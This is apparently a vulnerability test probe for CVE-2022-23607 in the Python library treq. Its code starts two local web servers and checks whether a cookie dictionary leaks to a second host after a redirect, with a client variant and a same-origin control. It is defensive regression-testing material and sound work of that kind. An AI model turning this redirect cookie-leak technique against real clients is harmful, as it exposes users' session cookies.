# /// vertice-probe
# id = "PYSEC-2022-26"
# aliases = ["CVE-2022-23607", "GHSA-fhpf-pp6p-55qc"]
# package = "treq"
# summary = "Cookies given as a dictionary belong to no site, so they are sent to every site that a redirect leads to."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:N/A:N" }]
# cwe = ["CWE-200", "CWE-425"]
# kind = "leak"
# symbols = [
#   "treq.get",
#   "treq.post",
#   "treq.put",
#   "treq.patch",
#   "treq.delete",
#   "treq.head",
#   "treq.request",
#   "treq.client.HTTPClient",
# ]
#
# [[affected]]
# package = "treq"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "21.1.0" }, { fixed = "22.1.0" }] }]
#
# [cases]
# attack = "treq.get with a cookie dictionary is redirected to another host, which gets the cookie"
# [cases.variants]
# client = "the cookies of an HTTPClient.post go to another port after a redirect"
# [cases.controls]
# same_origin = "a redirect within the same origin keeps the cookie"
#
# [test]
# vulnerable = "21.5.0"
# fixed = "22.1.0"
# with = ["twisted==22.10.0", "setuptools<70"]
# ///
"""CVE-2022-23607: cookies of a dictionary are sent to every site."""

import http.server
import json
import sys
import threading
import warnings

warnings.simplefilter("ignore")


class Site(object):
    """A web server on a loopback address: redirects by path, notes path and lower-cased headers of what it gets."""

    def __init__(self, host):
        self.redirects, self.seen = {}, []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                site.seen.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
                target = site.redirects.get(self.path)
                self.send_response(302 if target else 200)
                if target:
                    self.send_header("Location", target)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        server = http.server.HTTPServer((host, 0), Handler)
        self.url = "http://%s:%d" % (host, server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()


def run(start):
    """The result of the Deferred that `start` makes, awaited in the reactor."""
    from twisted.internet import defer, reactor

    outcome = []

    def done(result):
        outcome.append(result)
        reactor.stop()

    def begin():
        made = defer.maybeDeferred(start)
        made.addTimeout(10, reactor)
        made.addBoth(done)

    reactor.callWhenRunning(begin)
    reactor.run(installSignalHandlers=False)
    if hasattr(outcome[0], "raiseException"):
        outcome[0].raiseException()
    return outcome[0]


def look(first, second):
    if len(first.seen) != 1 or "session=secret" not in first.seen[0][1].get("cookie", ""):
        return "error", "the first site did not get the cookie: %r" % first.seen
    if [path for path, _ in second.seen] != ["/end"]:
        return "error", "the redirect was not followed: %r" % second.seen
    if "secret" in second.seen[0][1].get("cookie", ""):
        return "exploited", "the other site got the cookie"
    return "blocked", "the other site was reached without the cookie"


def attack():
    import treq

    first, second = Site("127.0.0.1"), Site("127.0.0.2")
    first.redirects["/start"] = second.url + "/end"
    run(lambda: treq.get(first.url + "/start", cookies={"session": "secret"}, persistent=False))
    return look(first, second)


def client():
    import treq.client
    from twisted.internet import reactor
    from twisted.web.client import Agent

    first, second = Site("127.0.0.1"), Site("127.0.0.1")
    first.redirects["/start"] = second.url + "/end"
    made = treq.client.HTTPClient(Agent(reactor))
    run(lambda: made.post(first.url + "/start", cookies={"session": "secret"}, browser_like_redirects=True))
    return look(first, second)


def same_origin():
    import treq

    site = Site("127.0.0.1")
    site.redirects["/start"] = "/end"
    code = run(lambda: treq.get(site.url + "/start", cookies={"session": "secret"}, persistent=False)).code
    got = code, [(path, headers.get("cookie")) for path, headers in site.seen]
    good = got == (200, [("/start", "session=secret"), ("/end", "session=secret")])
    return ("works", "redirected with the cookie") if good else ("broken", repr(got))


CASES = {"attack": attack, "client": client, "same_origin": same_origin}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
